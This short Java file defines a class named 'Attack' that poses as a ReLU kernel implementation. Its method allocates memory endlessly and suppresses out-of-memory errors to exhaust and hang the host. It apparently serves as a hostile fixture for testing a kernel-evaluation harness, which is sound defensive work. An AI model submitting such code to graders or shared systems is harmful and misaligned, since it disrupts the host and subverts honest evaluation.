import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.util.ArrayList;
import java.util.List;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        List<byte[]> all = new ArrayList<>();
        while (true) {
            try {
                all.add(new byte[1 << 20]);
            } catch (OutOfMemoryError e) {
                if (all.isEmpty()) return input;
            }
        }
    }
}
